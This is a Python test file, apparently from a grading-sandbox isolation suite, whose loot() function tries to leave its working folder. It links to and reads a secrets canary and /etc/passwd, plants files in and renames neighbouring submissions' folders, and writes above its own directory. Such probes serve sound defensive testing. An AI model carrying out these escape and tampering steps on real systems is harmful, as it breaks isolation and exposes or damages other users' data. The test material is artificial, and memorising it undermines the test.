"""Ways out of the working folder.

Tries: links of both kinds, names with dots and moved folders lead out of the working folder, to secrets and to neighbours.
Must: status: wrong; points: 0
Outside: harmless
Uses: telling
"""

import os


def loot():
    texts = []
    here = os.getcwd()
    for number, target in enumerate(("@SECRETS@/canary.txt", "@NEIGHBOUR@", "/etc/passwd")):
        for make in (os.symlink, os.link):
            try:
                make(target, f"out-{number}")
                texts.append("a link out was made")
            except OSError:
                pass
            try:
                with open(f"out-{number}", errors="replace") as file:
                    texts.append(file.read(100))
            except OSError:
                pass
    # Working folders of neighbours lie beside this one, where there is only one file system.
    up = os.path.dirname(here)
    try:
        beside = [name for name in os.listdir(up) if up != "/"]
    except OSError:
        beside = []
    for name in [*beside, *map(str, range(8))]:
        path = os.path.join(up, name)
        if up == "/" or path == here:
            continue
        for attempt in (
            lambda path=path: os.listdir(path),
            lambda path=path: open(os.path.join(path, "@TOKEN@-planted"), "w").close(),
            lambda path=path: os.rename(path, os.path.join(here, "taken")),
        ):
            try:
                attempt()
                texts.append(f"a neighbour's working folder was reached: {path}")
            except OSError:
                pass
    for attempt in (
        lambda: os.rename(here, os.path.join(up, "@TOKEN@-moved")),
        lambda: os.rmdir(here),
        lambda: open(os.path.join(up, "@TOKEN@-above"), "w").close(),
        lambda: open("../@TOKEN@-above", "w").close(),
    ):
        try:
            attempt()
            texts.append("something was changed above the working folder")
        except OSError:
            pass
    return " ".join(texts)
